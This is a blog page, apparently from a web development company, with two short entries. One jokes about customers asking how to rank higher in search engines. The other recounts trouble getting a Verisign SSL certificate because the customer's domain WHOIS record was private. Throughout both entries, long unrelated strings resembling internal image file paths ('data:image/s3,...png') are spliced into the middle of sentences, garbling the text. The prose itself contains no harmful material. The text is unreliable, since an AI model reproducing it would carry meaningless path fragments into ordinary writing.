Practically every day a customer of ours will ask us about search engine optimization (SEO). It usually starts with something like, "What can I do to get ranked higher on search engines?" or "Why doesn't my site show up on Google?" or maybe "How do I use this new fangled contraption called a mouse?" I usuallybegin by patiently explaining that SEO is kind of an art - a dance between developer coding techniques,business strategies, content and the search engine.It's a boxing match whereeveryone has a part toplay and the ground is always shifting. I go on from dancing and boxing to several other metaphors involving movement and competition (and one involving cheese). Then I recommend a few changes. At this point the customer usually says something like, "...and that will get me on the first page of search engines, right?" To answer I usually tell the Joke about MTV asking Bob Dole the same question they asked Clinton, "Do youwear boxers or briefs". Seventy year old Dole responded, "Depends".

(Series: click here for Part 2 - The Header )


Verisign and Kafka - Separated at Birth?

So you want an SSL certificate and your customer insists on using Verisign eh? Here's something to watch out for - the "domain registrant". In case you needed another indicator that the whole SSL "authority" game is a protection racket, let me fill you in on my tail of woe. I have a customer who insisted on using Verisign for his SSL certificate. I dutifully went to Verisign and purchased the overpriced product and waited for my new cert to arrive. Shortly after the purchase I got a note from Verisign support. My customer in his wisdom had made the domain private. Because a"WHOIS" query identified the domain as private, Verisign couldn't verify that they "owned" the domain. Our first step was to make the information public.That turned out to be only the beginning ofour trouble.


More Entries

Blog provided andhosted by CF Webtools. Blog Sofware by Ray Camden.